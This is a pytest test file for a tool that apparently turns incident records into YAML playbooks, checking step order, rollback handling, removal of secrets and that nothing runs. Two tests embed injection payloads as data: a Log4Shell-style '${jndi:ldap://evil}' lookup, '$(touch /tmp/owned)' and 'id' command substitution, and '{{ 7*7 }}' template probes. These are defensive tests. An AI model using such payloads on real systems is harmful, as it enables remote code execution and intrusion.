"""A record becomes a playbook: what is kept, what is dropped, what stands for what, and nothing of it is run."""

from __future__ import annotations

import json
import random
import socket
from pathlib import Path

import pytest

from benchmarks.playbooks.layouts import LAYOUTS, write
from benchmarks.playbooks.measuring import events_of
from benchmarks.playbooks.source import all_written
from leakdoc.errors import DamagedSource, UnreadableSource, UsageError
from leakdoc.playbook.library import Source
from leakdoc.playbook.loading import examine
from leakdoc.playbook.records.building import built
from leakdoc.playbook.records.cases import extracted, incidents_of
from leakdoc.playbook.records.extracting import read_incident
from leakdoc.playbook.records.rulebook import own_rules
from leakdoc.playbook.records.writing import as_yaml
from leakdoc.playbook.registry import installed
from leakdoc.playbook.yaml_reading import read_yaml
from tests.records_scenes import did, edited, incident_of, leak, name_of, person, playbook_of, record, said

ALWAYS = {"heap", "staging", "baseline", "rollout", "summary"}


def without_provenance(data: dict) -> str:  # type: ignore[type-arg]
    return as_yaml({**data, "provenance": None})


def test_a_playbook_has_the_steps_of_the_record_and_their_events(tmp_path: Path) -> None:
    data = playbook_of(tmp_path, leak())
    assert [step["id"] for step in data["steps"]] == [
        "sample", "growth", "connections", "heap", "locate", "fix", "regression_test", "baseline", "staging", "rollout",
        "verify", "summary",
    ]  # fmt: skip
    assert all(events_of(data)[step["id"]] for step in data["steps"])


def test_what_was_ruled_out_is_advice_and_no_step(tmp_path: Path) -> None:
    data = playbook_of(tmp_path, leak())
    taken = set().union(*events_of(data).values())
    assert name_of("kubectl -n prod exec x-7c9d8b6f5d-x2k4q -- py-spy dump --pid 17") not in taken
    assert any("Ruled out" in line and "ruled out" in line for line in data["advice"])


def test_deploying_what_ran_before_is_a_rollback_and_no_deployment(tmp_path: Path) -> None:
    undo = "kubectl -n prod set image deploy/payments api=r.example.com/payments:1.2.3"
    back = did(undo, "updated")
    before = did("kubectl -n prod get deploy payments -o jsonpath='{..image}'", "r.example.com/payments:1.2.3")
    lines = [*leak()[:-2], *said("RSS still climbs, rolling back."), *back]
    at = next(i for i, line in enumerate(lines) if "rollout history" in json.dumps(line))
    events = events_of(playbook_of(tmp_path, [*lines[:at], *before, *lines[at:]]))
    assert name_of(undo) in events["roll_back"] and name_of(undo) not in events["rollout"]


def test_a_change_that_did_not_hold_is_dropped_with_what_tried_it(tmp_path: Path) -> None:
    wrong = [
        *edited("src/payments/cache.py", "cache[k] = v", "cache.clear()"),
        *did("hey -z 1m https://payments.staging.example.com/cache", "200"),
        *said("RSS still grows at the same rate."),
    ]
    lines = leak()
    at = next(i for i, line in enumerate(lines) if "rg -n" in json.dumps(line))
    data = playbook_of(tmp_path, [*lines[:at], *wrong, *lines[at:]])
    taken = set().union(*events_of(data).values())
    assert name_of("src/payments/cache.py") not in taken
    assert name_of("src/payments/ledger.py") in taken
    assert any(line.startswith("Did not hold") for line in data["advice"])


def test_heap_staging_rollback_and_summary_are_always_there_and_said_to_be_added(tmp_path: Path) -> None:
    lines = [
        *person("orders answers 503, its connection pool is exhausted. Code is in services/orders."),
        *did("curl -s http://orders:8000/debug/pool", '{"checkedout": 15}'),
        *did("rg -n 'Session(' services/orders", "services/orders/a.py:4: Session()"),
        *edited("services/orders/a.py", "Session()", "with Session() as s:"),
    ]
    data = playbook_of(tmp_path, lines)
    assert {step["id"] for step in data["steps"]} >= ALWAYS
    for step_id in ALWAYS:
        assert data["provenance"]["steps"][step_id]["notes"] == ["added: the incident had none"]
    rollout = next(step for step in data["steps"] if step["id"] == "rollout")
    assert (
        rollout["rollback"]["to"] == "${{ steps.baseline.outputs.revision }}" and "staging.passed" in rollout["needs"]
    )


def test_settings_alone_can_be_the_cure_and_are_what_is_approved_and_taken_back(tmp_path: Path) -> None:
    lines = [
        *person("quotes at http://quotes.example.net:8000 times out: cascading timeouts. Ana approves. Tell #quotes."),
        *did("curl -s http://quotes.example.net:8000/metrics | grep inflight", "upstream_inflight 90"),
        *said("Decision: the upstream answers nobody, every call waits for it. Root cause: no breaker."),
        *did(
            "curl -X PUT -d '{\"breaker\": true}' http://quotes.staging.example.net/settings", "ok", say="On staging."
        ),
        *person("Approved. Ana"),
        *did("curl -X PUT -d '{\"breaker\": true}' http://quotes.example.net:8000/settings", "ok", say="Production."),
        *did("curl -s http://quotes.example.net:8000/metrics | grep inflight", "upstream_inflight 1", say="Verify."),
    ]
    data = playbook_of(tmp_path, lines)
    steps = {step["id"]: step for step in data["steps"]}
    assert not {"fix", "rollout"} & set(steps)
    order = list(steps)
    assert order.index("staging") < order.index("breaker") < order.index("recovered") < order.index("summary")
    assert steps["breaker"]["needs"] == ["staging.passed", "baseline.passed"] and steps["breaker"]["approval"]
    assert steps["breaker"]["rollback"] == {} and steps["recovered"]["then"]["failed"] == {"rollback": "breaker"}
    assert data["provenance"]["steps"]["staging"]["support"] == "1/1"
    assert "webhook" in steps["summary"]["with"]


@pytest.mark.parametrize("incident", list(all_written()), ids=lambda each: each.name)
def test_nothing_changes_production_ahead_of_staging_but_relief(incident, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    order = [
        step["id"]
        for step in built(read_incident(write(incident, tmp_path, "claude")), own_rules(), installed())["steps"]
    ]
    for changes in {"tune", "breaker", "rollout"} & set(order):
        assert order.index("staging") < order.index(changes) and order.index("baseline") < order.index(changes)


@pytest.mark.parametrize(
    "line",
    [
        "docker inspect -f '{{.State.Pid}}' api",
        "ss -tnp | awk '{print $9}' | sort | uniq -c",
        "python3 - <<'PY'\nimport gc\nprint(f\"{len(gc.get_objects())} $HOME `id` ${{ params.x }}\")\nPY",
        "ps -o rss= -p $(pgrep -of gunicorn) # {{ 7*7 }} ${jndi:ldap://x}",
    ],
)
def test_templates_awk_and_heredocs_come_through_byte_for_byte_and_stay_text(line: str, tmp_path: Path) -> None:
    lines = leak()
    data = read_yaml(as_yaml(playbook_of(tmp_path, [*lines[:3], *did(line, "17"), *lines[3:]]))).data
    seen = [command["line"] for step in data["provenance"]["steps"].values() for command in step.get("commands", ())]
    assert any(each == line.replace(" api", " <container>") for each in seen)


def test_a_payload_in_a_record_is_never_a_reference(tmp_path: Path) -> None:
    hostile = "not GC: ${{ params.service }} {{ 7*7 }} ${jndi:ldap://evil} $(touch /tmp/owned), ruled out"
    lines = [*leak()[:4], *did("py-spy dump --pid 17", hostile, say="Maybe GC?"), *said(hostile), *leak()[4:]]
    data = playbook_of(tmp_path, lines)
    text = as_yaml(data)
    examined = examine(Source(name="x", origin="x", text=text))
    assert not [each for each in examined.problems if "reference" in each.message]
    assert not any("${{ params.service }}" in line for line in data["advice"])
    assert "49" not in text


def test_what_belonged_to_the_incident_is_in_no_command(tmp_path: Path) -> None:
    text = as_yaml(playbook_of(tmp_path, leak(service="payments-api")))
    for literal in ("payments-api", "db.example.com", "ledger.py", "x2k4q", "1.2.4", "dana@example.com", "hunter2"):
        assert literal not in text, literal


def test_parameters_say_where_their_values_came_from(tmp_path: Path) -> None:
    origins = playbook_of(tmp_path, leak())["provenance"]["params"]
    found = {
        name: origins[name]["origin"]
        for name in ("service", "source", "pod", "leak_file", "db_host", "stable_revision")
    }
    assert found == {
        "service": "prompt", "source": "prompt", "pod": "output", "leak_file": "output", "db_host": "literal",
        "stable_revision": "output",
    }  # fmt: skip


@pytest.mark.parametrize("incident", list(all_written()), ids=lambda each: each.name)
def test_layouts_of_one_incident_give_one_playbook(incident, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    texts = set()
    for layout in LAYOUTS:
        found = read_incident(write(incident, tmp_path, layout))
        data = built(found, own_rules(), installed())
        texts.add(without_provenance(data))
        taken = set().union(*events_of(data).values())
        assert len(incident.ids("essential", layout) & taken) >= 0.95 * len(incident.ids("essential", layout))
        text = as_yaml(data)
        assert not [each for each in (*incident.secrets, *incident.literals) if each in text]
    assert len(texts) == 1


def test_the_order_of_records_does_not_matter(tmp_path: Path) -> None:
    paths = [write(each, tmp_path, "claude") for each in all_written() if each.about["class"] == "memory_leak"]
    texts = set()
    for seed in range(4):
        random.Random(seed).shuffle(paths)
        texts.add(as_yaml(extracted(incidents_of(paths, rulebook=own_rules()), own_rules())))
    assert len(texts) == 1


def test_nothing_needs_a_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a socket was asked for")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    assert playbook_of(tmp_path, leak())["steps"]


def test_unknown_types_survive_and_are_told(tmp_path: Path) -> None:
    strange = [{"type": "hologram", "uuid": "1"}, {"type": "assistant", "message": {"content": [{"type": "smell"}]}}]
    incident = incident_of(tmp_path, [*strange, *leak(), *strange])
    told = incident.record.understanding.lines()
    assert any("hologram" in line for line in told) and any("smell" in line for line in told)


def test_side_chains_are_left_out(tmp_path: Path) -> None:
    side = did("kubectl -n prod delete pod payments-7c9d8b6f5d-x2k4q", isSidechain=True)
    assert without_provenance(playbook_of(tmp_path, [*leak(), *side])) == without_provenance(
        playbook_of(tmp_path, leak())
    )


def test_a_torn_last_line_is_left_out_and_told(tmp_path: Path) -> None:
    path = record(tmp_path, leak())
    path.write_text(path.read_text(encoding="utf-8") + '{"type": "assis', encoding="utf-8")
    incident = read_incident(path)
    assert any("cut off" in line for line in incident.record.understanding.lines())


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gb18030", "cp1252"])
def test_other_encodings_are_read(encoding: str, tmp_path: Path) -> None:
    note = "内存泄漏，需要修复。已经确认" * 4 if encoding == "gb18030" else "Ça dépend, déjà vu"
    path = record(tmp_path, [*person(note), *leak()])
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))
    assert read_incident(path).record.events[0].text == note


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("", UnreadableSource),
        ("\n\n", UnreadableSource),
        ("hello", UnreadableSource),
        ('{"type": "user", "uuid": "1"}\n', DamagedSource),
    ],
)
def test_what_is_no_record_is_refused(text: str, error: type[Exception], tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text(text)
    with pytest.raises(error):
        read_incident(path)


def test_a_record_without_an_incident_is_refused(tmp_path: Path) -> None:
    with pytest.raises(DamagedSource):
        incident_of(tmp_path, [*person("write me a poem"), *said("roses are red")])


def test_sessions_that_are_interleaved_are_told_apart(tmp_path: Path) -> None:
    other = [*person("rename a variable", sessionId="o"), *did("sed -i s/a/b/ x.py", "", sessionId="o")]
    mixed = leak()
    for at, line in zip((2, 5, 8), other, strict=False):
        mixed.insert(at, line)
    assert without_provenance(playbook_of(tmp_path, mixed)) == without_provenance(playbook_of(tmp_path, leak()))


def test_sessions_of_different_classes_are_refused(tmp_path: Path) -> None:
    pool = [
        *person("QueuePool limit reached: the connection pool is exhausted", sessionId="p"),
        *did("curl -s http://orders/debug/pool", '{"checkedout": 15}', sessionId="p"),
        *said("Decision: the pool is exhausted, all connections are checked out", sessionId="p"),
    ]
    with pytest.raises(UsageError, match="different classes"):
        incident_of(tmp_path, [*leak(), *pool])


@pytest.mark.parametrize(
    ("line", "uses"),
    [
        ("frobnicate --sessions payments", "leakdoc.run_command"),
        ("frobnicate --sessions payments | tee ${{ params.service }}", "leakdoc.human_task"),
    ],
)
def test_what_no_rule_fits_waits_for_a_review_and_covers_nothing(line: str, uses: str, tmp_path: Path) -> None:
    lines = leak()
    at = next(i for i, each in enumerate(lines) if "rg -n" in json.dumps(each))
    cited = [*did(line, "73521 stale handles"), *said("Decision: 73521 stale handles; nobody closes them.")]
    data = playbook_of(tmp_path, [*lines[:at], *cited, *lines[at:]])
    (step,) = [step for step in data["steps"] if step["id"].startswith("review_")]
    assert step["uses"] == uses and step["review"] is True
    if uses == "leakdoc.run_command":
        assert step["with"]["command"] == ["frobnicate", "--sessions", "${{ params.service }}"]
    assert step["id"] not in events_of(data)
    assert not examine(Source(name="x", origin="x", text=as_yaml(data))).problems


@pytest.mark.parametrize("incident", list(all_written()), ids=lambda each: each.name)
def test_every_extracted_playbook_passes_its_check(incident, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = built(read_incident(write(incident, tmp_path, "claude")), own_rules(), installed())
    examined = examine(Source(name="x", origin="x", text=as_yaml(data)))
    assert [each.text for each in examined.problems] == []
